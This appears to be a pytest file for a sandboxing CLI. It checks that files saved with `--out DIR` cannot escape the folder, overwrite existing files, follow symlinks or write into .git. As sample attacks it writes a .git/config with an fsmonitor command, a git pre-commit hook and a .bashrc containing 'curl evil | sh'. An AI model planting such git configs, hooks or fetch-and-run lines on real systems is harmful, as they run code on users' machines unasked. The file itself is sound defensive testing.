"""`--out DIR` on the host: a program's file names never reach outside DIR nor replace a file.

Each test is an attack from a real program in a real container, saved by the real CLI.
"""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from sandcrew.errors import UserError
from sandcrew.sandbox import Artifact
from tests.process import run_cli

pytestmark = pytest.mark.docker


def tree(root: Path) -> dict[str, object]:
    """Every entry under ``root`` (links as their target, never followed) with its content."""
    found: dict[str, object] = {}
    for folder, folders, files in os.walk(root):
        for name in folders + files:
            path = Path(folder, name)
            key = path.relative_to(root).as_posix()
            if path.is_symlink():
                found[key] = ("link", os.readlink(path))
            elif path.is_file():
                found[key] = (path.read_bytes(), path.stat().st_mtime_ns)
            else:
                found[key] = "folder"
    return found


def new_folder(root: Path) -> Path:
    """The one folder the save made inside ``root``."""
    [made] = [path for path in root.iterdir() if path.name.startswith("sandcrew-")]
    return made


def program(tmp_path: Path, text: str) -> str:
    path = tmp_path / "attack.py"
    path.write_text(text)
    return str(path)


def test_a_git_config_written_into_a_checkout_changes_nothing_and_runs_nothing(
    tmp_path: Path,
) -> None:
    checkout, marker = tmp_path / "checkout", tmp_path / "fsmonitor-ran"
    checkout.mkdir()
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@t.invalid"]
    subprocess.run([*git, "init", "-q"], cwd=checkout, check=True)
    (checkout / "code.py").write_text("print(1)\n")
    subprocess.run([*git, "add", "."], cwd=checkout, check=True)
    subprocess.run([*git, "commit", "-qm", "first"], cwd=checkout, check=True)
    before = tree(checkout)
    attack = program(
        tmp_path,
        f"""
import os
for folder in ("out/.git/hooks", "out/.git/objects/info", "out/.git/refs/heads", "out/.GIT"):
    os.makedirs(folder, exist_ok=True)
open("out/.git/config", "w").write("[core]\\n\\tfsmonitor = touch {marker}\\n")
open("out/.git/HEAD", "w").write("ref: refs/heads/main\\n")
open("out/.git/objects/info/packs", "w").write("")
open("out/.git/refs/heads/main", "w").write("0" * 40 + "\\n")
open("out/.git/hooks/pre-commit", "w").write("#!/bin/sh\\ntouch {marker}\\n")
open("out/.GIT/config", "w").write("[core]\\n")
open("out/notes.txt", "w").write("kept\\n")
""",
    )

    completed = run_cli("run", attack, "--out", ".", cwd=checkout)

    assert completed.returncode == 0, completed.stderr
    made = new_folder(checkout)
    after = tree(checkout)
    assert {key: value for key, value in after.items() if not key.startswith(made.name)} == before
    assert (made / "notes.txt").read_text() == "kept\n"
    assert sorted(path.name for path in made.iterdir()) == ["notes.txt"]
    assert "'.git' is a version-control folder" in completed.stderr
    assert "'.GIT' is a version-control folder" in completed.stderr
    saved_in = f"--out . is not empty: the files were saved in the new folder {made.name}"
    assert saved_in in completed.stderr.replace("\n", "")
    for folder in (checkout, made):
        subprocess.run(["git", "status"], cwd=folder, capture_output=True, check=False)
    assert not marker.exists()


def test_an_existing_file_is_never_overwritten(tmp_path: Path) -> None:
    folder = tmp_path / "results"
    folder.mkdir()
    (folder / "keep.txt").write_text("mine\n")
    attack = program(tmp_path, "open('out/keep.txt', 'w').write('theirs\\n')\n")

    completed = run_cli("run", attack, "--out", str(folder))

    assert completed.returncode == 0, completed.stderr
    assert (folder / "keep.txt").read_text() == "mine\n"
    made = new_folder(folder)
    assert (made / "keep.txt").read_text() == "theirs\n"
    assert f"saved to {made / 'keep.txt'}" in completed.stderr.replace("\n", "")


def test_a_bashrc_is_not_dropped_into_the_home_folder(tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    (home / ".profile").write_text("# mine\n")
    attack = program(tmp_path, "open('out/.bashrc', 'w').write('curl evil | sh\\n')\n")

    completed = run_cli("run", attack, "--out", str(home), "--json")

    assert completed.returncode == 0, completed.stderr
    assert not (home / ".bashrc").exists()
    made = new_folder(home)
    assert (made / ".bashrc").read_text() == "curl evil | sh\n"
    assert sorted(path.name for path in home.iterdir()) == sorted([".profile", made.name])


def test_an_existing_link_in_the_folder_is_not_followed(tmp_path: Path) -> None:
    folder, victim = tmp_path / "results", tmp_path / "victim"
    folder.mkdir()
    victim.mkdir()
    (folder / "sub").symlink_to("../victim")
    attack = program(
        tmp_path, "import os\nos.makedirs('out/sub')\nopen('out/sub/x.txt', 'w').write('x')\n"
    )

    completed = run_cli("run", attack, "--out", str(folder))

    assert completed.returncode == 0, completed.stderr
    assert list(victim.iterdir()) == []
    assert os.readlink(folder / "sub") == "../victim"
    made = new_folder(folder)
    assert not (made / "sub").is_symlink()
    assert (made / "sub" / "x.txt").read_text() == "x"


def test_artifact_save_refuses_a_link_on_the_way_and_an_existing_file(tmp_path: Path) -> None:
    folder, victim = tmp_path / "results", tmp_path / "victim"
    folder.mkdir()
    victim.mkdir()
    (folder / "sub").symlink_to("../victim")
    (folder / "keep.txt").write_text("mine")
    (folder / "last").symlink_to("../victim/last")

    with pytest.raises(UserError, match=r"sub: it is a link"):
        Artifact(name="sub/x.txt", size=1, media_type="text/plain", data=b"x").save(folder)
    with pytest.raises(UserError, match=r"keep.txt: something of that name is already there"):
        Artifact(name="keep.txt", size=1, media_type="text/plain", data=b"x").save(folder)
    with pytest.raises(UserError, match=r"last: it is a link"):
        Artifact(name="last", size=1, media_type="text/plain", data=b"x").save(folder)
    with pytest.raises(UserError, match=r"version-control folder"):
        Artifact(name=".git/config", size=1, media_type="text/plain", data=b"x").save(folder)

    assert list(victim.iterdir()) == []
    assert (folder / "keep.txt").read_text() == "mine"
    saved = Artifact(name="new/x.txt", size=1, media_type="text/plain", data=b"x").save(folder)
    assert saved.path == str(folder / "new" / "x.txt")
    assert (folder / "new" / "x.txt").read_bytes() == b"x"


def test_the_security_pages_out_example_runs_as_written(tmp_path: Path) -> None:
    page = (Path(__file__).parents[2] / "docs" / "security.md").read_text()
    section = page[page.index("### What `--out DIR` writes") :]
    script = section.split("```bash\n", 1)[1].split("```", 1)[0]
    bin_folder = Path(sys.executable).parent

    completed = subprocess.run(
        ["bash", "-euc", script],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
        cwd=tmp_path,
        env={**os.environ, "PATH": f"{bin_folder}:{os.environ['PATH']}"},
    )

    assert completed.returncode == 0, completed.stderr
    assert completed.stdout == "mine\ntheirs"
